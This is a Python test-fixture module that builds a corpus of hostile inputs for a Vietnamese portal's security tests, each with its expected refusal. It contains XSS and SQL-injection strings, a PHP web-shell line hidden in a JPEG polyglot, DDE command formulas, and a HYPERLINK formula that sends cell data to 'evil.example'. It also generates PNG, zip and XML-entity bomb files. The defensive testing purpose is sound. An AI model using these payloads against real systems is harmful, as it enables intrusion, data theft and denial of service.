"""The bad-input corpus (issue 15, "Keeps intruders out", point 4): one list of hostile and broken
inputs, each with the forms it is thrown at and what the portal must answer.

Each `BadInput` names
- `id`: the test id (tests/test_bad_inputs.py runs one test per input and target);
- `kind`: xss, sql, unicode, number, date, upload, xlsx, quiz, query;
- `payload`: the text typed, or a function making the file or the request (files are made here,
  from bytes, so the corpus carries no binary file);
- `targets`: {target name: expectation}; the targets are the real views, defined in
  tests/test_bad_inputs.py (`TARGETS`);

and an expectation is either `Refused(fragment)`: the response shows this Vietnamese fragment and
no row or file changed, or `Stored(value)`: the input is legitimately accepted and stored as `value`
(plain, inert text; the page that shows it escapes it). Which fields refuse and which accept:
docs/decisions.md, "Bad-input corpus (issue 15)".
"""

import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from io import BytesIO

from openpyxl import Workbook
from PIL import Image


@dataclass(frozen=True)
class Refused:
    message: str


@dataclass(frozen=True)
class Stored:
    value: object


@dataclass(frozen=True)
class BadInput:
    id: str
    kind: str
    payload: object
    targets: dict = field(default_factory=dict)


# Files ---------------------------------------------------------------------------------------


def jpeg(size=(60, 40), **save):
    out = BytesIO()
    Image.new("RGB", size, "red").save(out, format="JPEG", **save)
    return out.getvalue()


def png_bomb(width=30_000, height=30_000):
    """A valid PNG header claiming 900 million pixels over a few hundred bytes of zeros (a decompression bomb)."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 4096)) + chunk(b"IEND", b"")


def jpeg_with_php():
    """A real JPEG whose comment segment carries PHP and HTML (a polyglot): it is an image, so it is
    accepted, and must be stored re-encoded without the comment."""
    return jpeg(comment=b"<?php system($_GET['c']); ?><script>alert(1)</script>")


def truncated_jpeg():
    return jpeg((400, 300))[:300]


def svg_script():
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'


def html_page():
    return b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def oversize_jpeg():
    """A JPEG heavier than the photo limit the tests set (1 MB): real pixels, padded after the end marker."""
    return jpeg((80, 60)) + b"\0" * (1024 * 1024 + 1)


# Spreadsheets --------------------------------------------------------------------------------
# Each import's own header row is added by the target (tests/test_bad_inputs.py); a payload is
# the function of the headers that makes the workbook.


def workbook(headers, rows):
    book = Workbook()
    book.active.append(headers)
    for row in rows:
        book.active.append(row)
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def with_cell(value):
    """A workbook whose first data row holds `value` in its first column (the name, the question code…)."""
    def make(headers, row):
        return workbook(headers, [[value, *row[1:]]])

    make.value = value
    return make


def truncated_xlsx(headers, row):
    whole = workbook(headers, [row])
    return whole[: len(whole) // 2]


def csv_as_xlsx(headers, row):
    return (",".join(headers) + "\n" + ",".join(str(v) for v in row)).encode()


def wrong_headers(headers, row):
    return workbook(["Tên", "Thư"], [row])


def zip_bomb_xlsx(headers, row):
    """A real workbook whose shared strings unpack to 64 MB (past the 50 MB limit; a real bomb goes on to
    gigabytes): a few hundred kilobytes on the wire."""
    base = workbook(headers, [row])
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(base)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for info in source.infolist():
            bomb.writestr(info, source.read(info.filename))
        filler = b"<si><t>a</t></si>" * (64 * 1024 * 1024 // 17)
        bomb.writestr("xl/sharedStrings.xml", b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                      + filler + b"</sst>", compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return out.getvalue()


def billion_laughs_xlsx(headers, row):
    """A workbook whose sheet declares nested entities (XML "billion laughs"): never expanded."""
    base = workbook(headers, [row])
    laughs = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
    ) + b']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>' \
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(base)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bad:
        for info in source.infolist():
            data = laughs if info.filename == "xl/worksheets/sheet1.xml" else source.read(info.filename)
            bad.writestr(info, data)
    return out.getvalue()


# Expectations shared by many inputs -------------------------------------------------------------

FORMULA = Refused("chứa công thức")
UNREADABLE = Refused("Không đọc được tệp")
NOT_AN_IMAGE = Refused("không phải là ảnh hợp lệ")
NOT_A_NUMBER = Refused("Nhập một số nguyên.")
BAD_CHOICE = Refused("Phương án đã chọn không thuộc câu hỏi này.")
BAD_REQUEST = Refused("Yêu cầu lưu không hợp lệ.")
NOT_A_CODE = Refused("Mã khôi phục gồm 10 chữ cái và chữ số")
WRONG_LOGIN = Refused("Tên đăng nhập và mật khẩu chính xác")
WRONG_CODE = Refused("Mã xác thực không đúng")  # the second step of the sign-in, and the enrolment's
WRONG_PASSWORD = Refused("Mật khẩu không đúng.")
NUL = Refused("Không được chứa ký tự rỗng (null).")
TOO_MANY_PIXELS = Refused("có quá nhiều điểm ảnh")
NOT_AN_IMAGE_DJANGO = Refused("Hãy tải lên một hình ảnh hợp lệ.")

XSS_SCRIPT = "<script>alert(1)</script>"
XSS_IMG = '<img src=x onerror="alert(1)">'
XSS_SVG = "<svg/onload=alert(1)>"
XSS_BREAKOUT = '"><script>alert(document.cookie)</script>'
XSS_MXSS = "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"
SQL_OR = "' OR '1'='1"
SQL_DROP = "x'); DROP TABLE auth_user; --"
SQL_UNION = "\" UNION SELECT username, password FROM auth_user --"
NAME_NFD = "Nguye\u0302\u0303n Thi\u0323 A\u0300nh"  # typed with combining marks (macOS, some phones)
NAME_NFC = "Nguyễn Thị Ành"

# Text fields that accept any plain text: the payload is stored as it was typed, as text.
PLAIN_TEXT_TARGETS = ("register_name", "account_name", "task_title", "report_caption", "review_comment", "article_title")


def stored_as_text(value, targets=PLAIN_TEXT_TARGETS):
    return {target: Stored(value) for target in targets}


CORPUS = [
    # XSS: plain-text fields keep the characters as text (escaped on every page); rich text drops
    # the markup with nh3; links refuse anything that is not http(s).
    BadInput("xss-script-tag", "xss", XSS_SCRIPT, {
        **stored_as_text(XSS_SCRIPT), "twofactor_code": WRONG_CODE, "twofactor_turn_off": WRONG_PASSWORD, "report_text": Refused("Nội dung báo cáo không được để trống."),
        "report_links": Refused("Đường dẫn không hợp lệ"), "search": Stored(XSS_SCRIPT),
    }),
    BadInput("xss-img-onerror", "xss", XSS_IMG, {
        **stored_as_text(XSS_IMG, ("register_locality", "account_name", "question_text")),
        "report_text": Refused("Nội dung báo cáo không được để trống."), "article_body": Refused("Trường này là bắt buộc."),
    }),
    BadInput("xss-svg-onload", "xss", XSS_SVG, {
        **stored_as_text(XSS_SVG, ("register_name", "task_title")), "search": Stored(XSS_SVG),
    }),
    BadInput("xss-attribute-breakout", "xss", XSS_BREAKOUT, {
        **stored_as_text(XSS_BREAKOUT, ("register_name", "report_caption", "article_title")),
        "report_links": Refused("Đường dẫn không hợp lệ"), "search": Stored(XSS_BREAKOUT),
    }),
    BadInput("xss-javascript-link", "xss", "javascript:alert(document.cookie)", {
        "report_links": Refused("Đường dẫn không hợp lệ"),
        "report_text_link": Stored('<p><a rel="noopener noreferrer nofollow">xem</a></p>'),
    }),
    BadInput("xss-entity-encoded-link", "xss", "&#106;avascript:alert(1)", {
        "report_text_link": Stored('<p><a rel="noopener noreferrer nofollow">xem</a></p>'),
        "report_links": Refused("Đường dẫn không hợp lệ"),
    }),
    BadInput("xss-mutation-math", "xss", XSS_MXSS, {
        "report_text": Refused("Nội dung báo cáo không được để trống."), "article_body": Refused("Trường này là bắt buộc."),
        "question_text": Stored(XSS_MXSS),
    }),
    # SQL injection: only ever a parameter; stored as the text it is, or found nowhere.
    BadInput("sql-or-true", "sql", SQL_OR, {**stored_as_text(SQL_OR), "search": Stored(SQL_OR), "login": WRONG_LOGIN,
                                                 "twofactor_code": WRONG_CODE, "twofactor_enrol": Refused("Mã xác thực gồm 6 chữ số."), "twofactor_turn_off": WRONG_PASSWORD,
                                                 "restore_code": NOT_A_CODE, "password_change": Refused("Mật khẩu cũ không chính xác.")}),
    BadInput("sql-drop-table", "sql", SQL_DROP, {
        **stored_as_text(SQL_DROP, ("register_name", "task_title", "question_text")), "search": Stored(SQL_DROP),
        "login": WRONG_LOGIN, "account_filter": Stored(SQL_DROP), "twofactor_code": WRONG_CODE,
    }),
    BadInput("sql-union-select", "sql", SQL_UNION, {
        **stored_as_text(SQL_UNION, ("account_name", "review_comment")), "search": Stored(SQL_UNION),
        "compare": Stored(SQL_UNION),
    }),
    BadInput("sql-in-number", "sql", "1; DELETE FROM campaign_reportfigure", {
        "report_figure": NOT_A_NUMBER, "autosave_prediction": Refused("Dự đoán phải là một số nguyên."),
    }),
    # NUL bytes: PostgreSQL cannot store them; a form refuses them, a query string ignores them.
    BadInput("nul-byte", "sql", "An\x00' OR 1=1", {
        "register_name": Stored("An' OR 1=1"), "login": Refused("Không được chứa ký tự rỗng (null)."),
        "twofactor_code": NUL, "twofactor_enrol": NUL, "twofactor_turn_off": NUL,
        "password_change": Refused("Không được chứa ký tự rỗng (null)."), "restore_code": Refused("Không được chứa ký tự rỗng (null)."), "search": Stored("An' OR 1=1"),
        "account_filter": Stored("An\x00' OR 1=1"), "compare": Stored("An\x00' OR 1=1"), "article_status_filter": Stored(""),
        "revision_compare": Refused("Không tìm thấy trang"),
    }),
    # Unicode: NFC, invisible and bidi characters dropped (campaign.text.normalize_text), one rule for all.
    BadInput("unicode-combining-diacritics", "unicode", NAME_NFD, {
        "register_name": Stored(NAME_NFC), "account_name": Stored(NAME_NFC), "task_title": Stored(NAME_NFC),
        "register_locality": Stored(NAME_NFC), "account_import_name": Stored(NAME_NFC), "question_import_text": Stored(NAME_NFC),
    }),
    BadInput("unicode-zero-width-inside", "unicode", "Nguyễn\u200b Thị\u200d\ufeff Ành\u2060", {
        "register_name": Stored(NAME_NFC), "account_name": Stored(NAME_NFC), "report_caption": Stored(NAME_NFC),
        "account_import_name": Stored(NAME_NFC),
    }),
    BadInput("unicode-only-zero-width", "unicode", "\u200b\u200c\u200d\ufeff\u2060", {
        "register_name": Refused("Trường này là bắt buộc."), "account_name": Refused("Hãy nhập họ và tên."),
        "task_title": Refused("Trường này là bắt buộc."), "lock_reason": Refused("Trường này là bắt buộc."),
    }),
    BadInput("unicode-bidi-override", "unicode", "Nguyễn Thị Ành\u202e\u202dgpj.exe", {
        "register_name": Stored("Nguyễn Thị Ànhgpj.exe"), "account_name": Stored("Nguyễn Thị Ànhgpj.exe"),
        "account_import_name": Stored("Nguyễn Thị Ànhgpj.exe"),
    }),
    BadInput("unicode-bidi-isolates", "unicode", "\u2066Nguyễn\u2069 \u2067Thị\u2069 \u2068Ành\u2069\u200f", {
        "register_name": Stored(NAME_NFC), "account_name": Stored(NAME_NFC), "review_comment": Stored(NAME_NFC),
        "restore_code": Refused("tối đa 20 kí tự"), "twofactor_code": WRONG_CODE,
    }),
    BadInput("unicode-lone-bidi-override", "unicode", "\u202e", {
        "register_name": Refused("Trường này là bắt buộc."), "account_name": Refused("Hãy nhập họ và tên."),
    }),
    BadInput("unicode-control-characters", "unicode", "Nguyễn\x07 Thị\x1b[31m Ành\x85", {
        "register_name": Stored("Nguyễn Thị[31m Ành"), "account_name": Stored("Nguyễn Thị[31m Ành"),
    }),
    BadInput("unicode-zalgo-overlong", "unicode", "A" + "\u0301\u0302\u0323" * 100, {
        "register_name": Refused("tối đa 150 kí tự"), "account_name": Refused("tối đa 200 kí tự"),
    }),
    # A code typed in full-width or Arabic-Indic digits is read as 0–9 (the right length, the wrong code here).
    BadInput("unicode-fullwidth-code", "unicode", "１２３ ４５６", {"twofactor_code": WRONG_CODE, "twofactor_enrol": WRONG_CODE}),
    BadInput("unicode-arabic-indic-code", "unicode", "\u0661\u0662\u0663\u0664\u0665\u0666", {"twofactor_code": WRONG_CODE}),
    BadInput("unicode-fullwidth-phone", "unicode", "０９１２ ３４５ ６７８", {
        "register_phone": Stored("0912345678"), "account_phone": Stored("0912345678"),
    }),
    BadInput("unicode-fullwidth-id-number", "unicode", "０７９２０３００１２３４", {"register_id_number": Stored("079203001234")}),
    BadInput("unicode-arabic-indic-figure", "unicode", "\u0661\u0662", {"report_figure": Stored(12), "autosave_prediction": Stored(12)}),
    BadInput("unicode-fullwidth-figure", "unicode", "１.２００", {"report_figure": Stored(1200), "autosave_prediction": Stored(1200)}),
    BadInput("unicode-superscript-digit", "unicode", "1²", {
        "report_figure": NOT_A_NUMBER, "register_id_number": Refused("Số căn cước công dân gồm 12 chữ số."),
        "revision_compare": Refused("Không tìm thấy trang"),
    }),
    # Numbers
    BadInput("number-negative", "number", "-5", {
        "report_figure": Refused("Số liệu không được âm."), "autosave_prediction": Refused("Dự đoán không được âm."),
    }),
    BadInput("number-decimal-comma", "number", "1,5", {"report_figure": NOT_A_NUMBER, "autosave_prediction": Refused("Dự đoán phải là một số nguyên.")}),
    BadInput("number-five-thousand-digits", "number", "9" * 5000, {
        "report_figure": NOT_A_NUMBER, "autosave_prediction": Refused("Dự đoán phải là một số nguyên."),
        "submit_prediction": Refused("Dự đoán phải là một số nguyên."),
    }),
    BadInput("number-beyond-bigint", "number", "9" * 25, {
        "report_figure": Refused("nhỏ hơn hoặc bằng với 100000000"), "autosave_prediction": Refused("nhỏ hơn hoặc bằng"),
        "revision_compare": Refused("Không tìm thấy trang"), "article_status_filter": Stored(""),
    }),
    BadInput("number-over-maximum", "number", "1" + "0" * 12, {
        "report_figure": Refused("nhỏ hơn hoặc bằng với 100000000"), "autosave_prediction": Refused("nhỏ hơn hoặc bằng"),
    }),
    # Dates
    BadInput("date-year-1800", "date", "01/01/1800", {
        "register_birth": Refused("Ngày sinh không hợp lệ"), "due_date": Refused("trong vòng 10 năm"),
    }),
    BadInput("date-30-february", "date", "30/02/2024", {"register_birth": Refused("Nhập một ngày hợp lệ."), "due_date": Refused("Nhập một ngày hợp lệ.")}),
    BadInput("date-year-9999", "date", "31/12/9999", {"due_date": Refused("trong vòng 10 năm"), "lock_until": Refused("trong vòng 10 năm")}),
    # Oversize text
    BadInput("text-200k-characters", "text", "<p>" + "Báo cáo dài. " * 16_000 + "</p>", {
        "twofactor_code": WRONG_CODE, "twofactor_enrol": Refused("Mã xác thực gồm 6 chữ số."),
        "report_text": Refused("vượt giới hạn 20.000 ký tự"), "review_comment": Refused("tối đa 5000 kí tự"),
    }),
    # Uploads
    BadInput("upload-png-decompression-bomb", "upload", ("bom.png", png_bomb), {
        "report_photo": TOO_MANY_PIXELS, "editor_image": TOO_MANY_PIXELS, "article_cover": NOT_AN_IMAGE_DJANGO,
    }),
    BadInput("upload-truncated-jpeg", "upload", ("hong.jpg", truncated_jpeg), {
        "report_photo": NOT_AN_IMAGE, "editor_image": NOT_AN_IMAGE,
    }),
    BadInput("upload-svg-with-script", "upload", ("anh.png", svg_script), {
        "report_photo": NOT_AN_IMAGE, "editor_image": NOT_AN_IMAGE, "article_cover": NOT_AN_IMAGE_DJANGO,
    }),
    BadInput("upload-html-named-jpg", "upload", ("anh.jpg", html_page), {"report_photo": NOT_AN_IMAGE, "editor_image": NOT_AN_IMAGE}),
    BadInput("upload-empty-file", "upload", ("trong.jpg", lambda: b""), {
        "report_photo": NOT_AN_IMAGE, "plan_original": Refused("Tập tin được gửi là rỗng."),
    }),
    BadInput("upload-oversize-photo", "upload", ("lon.jpg", oversize_jpeg), {"report_photo": Refused("vượt giới hạn 1 MB")}),
    BadInput("upload-jpeg-renamed-pdf", "upload", ("van-ban.pdf", jpeg), {"plan_original": Refused("không phải là tệp PDF thật")}),
    BadInput("upload-html-renamed-docx", "upload", ("van-ban.docx", html_page), {"plan_original": Refused("không phải là tệp DOCX thật")}),
    BadInput("upload-executable-extension", "upload", ("van-ban.pdf.exe", lambda: b"MZ\x90\x00"), {
        "plan_original": Refused("phải là tệp PDF, DOC, DOCX hoặc ODT"),
    }),
    BadInput("upload-jpeg-php-polyglot", "upload", ("shell.php.jpg", jpeg_with_php), {
        "report_photo": Stored("re-encoded"), "editor_image": Stored("re-encoded"),
    }),
    BadInput("upload-library-editor-endpoint", "upload", ("evil.jpg", jpeg_with_php), {"ckeditor_library_upload": Refused("404")}),
    # Excel imports: refused as a whole, nothing stored.
    BadInput("xlsx-hyperlink-formula", "xlsx", with_cell('=HYPERLINK("http://evil.example/?p="&B2,"Xem")'), {
        "question_import": FORMULA, "account_import": FORMULA, "values_import": FORMULA,
    }),
    BadInput("xlsx-dde-cmd-formula", "xlsx", with_cell("=cmd|' /C calc'!A0"), {
        "question_import": FORMULA, "account_import": FORMULA, "values_import": FORMULA,
    }),
    BadInput("xlsx-at-sum-text", "xlsx", with_cell("@SUM(1+1)*cmd|' /C calc'!A0"), {"question_import_text": Stored("@SUM(1+1)*cmd|' /C calc'!A0")}),
    BadInput("xlsx-plus-minus-text", "xlsx", with_cell("+1-1+cmd|' /C calc'!A0"), {"question_import_text": Stored("+1-1+cmd|' /C calc'!A0")}),
    BadInput("xlsx-truncated", "xlsx", truncated_xlsx, {"question_import": UNREADABLE, "account_import": UNREADABLE, "values_import": UNREADABLE}),
    BadInput("xlsx-csv-renamed", "xlsx", csv_as_xlsx, {"question_import": UNREADABLE, "account_import": UNREADABLE, "values_import": UNREADABLE}),
    BadInput("xlsx-wrong-headers", "xlsx", wrong_headers, {
        "question_import": Refused("Dòng 1 phải là tiêu đề các cột"), "account_import": Refused("Dòng 1 phải là tiêu đề các cột"),
        "values_import": Refused("Dòng 1 phải là tiêu đề các cột"),
    }),
    BadInput("xlsx-zip-bomb", "xlsx", zip_bomb_xlsx, {
        "question_import": Refused("giải nén"), "account_import": Refused("giải nén"), "values_import": Refused("giải nén"),
    }),
    BadInput("xlsx-billion-laughs", "xlsx", billion_laughs_xlsx, {"question_import": UNREADABLE, "account_import": UNREADABLE}),
    # Quiz payloads: autosave and submit as a script could post them.
    BadInput("quiz-choice-out-of-range", "quiz", {"position": "1", "choice": "99"}, {"autosave": BAD_CHOICE, "submit": BAD_CHOICE}),
    BadInput("quiz-foreign-position", "quiz", {"position": "999", "choice": "0"}, {
        "autosave": Refused("Câu hỏi này không có trong bài thi của bạn."), "submit": Refused("Câu hỏi này không có trong bài thi của bạn."),
    }),
    BadInput("quiz-answer-and-prediction", "quiz", {"position": "1", "choice": "0", "prediction": "5"}, {"autosave": BAD_REQUEST}),
    BadInput("quiz-empty-body", "quiz", {}, {"autosave": BAD_REQUEST, "submit": Refused("Hãy nhập dự đoán của bạn")}),
    BadInput("quiz-json-body", "quiz", "json", {"autosave": BAD_REQUEST}),
    BadInput("quiz-choice-as-list", "quiz", {"position": "1", "choice": "[0, 1]"}, {"autosave": NOT_A_NUMBER, "submit": BAD_CHOICE}),
    BadInput("quiz-start-without-captcha", "quiz", {}, {"start": Refused("Hãy nhập mã xác nhận.")}),
    BadInput("quiz-start-wrong-captcha", "quiz", {"captcha_1": "SAI"}, {"start": Refused("Mã xác nhận chưa đúng")}),
]
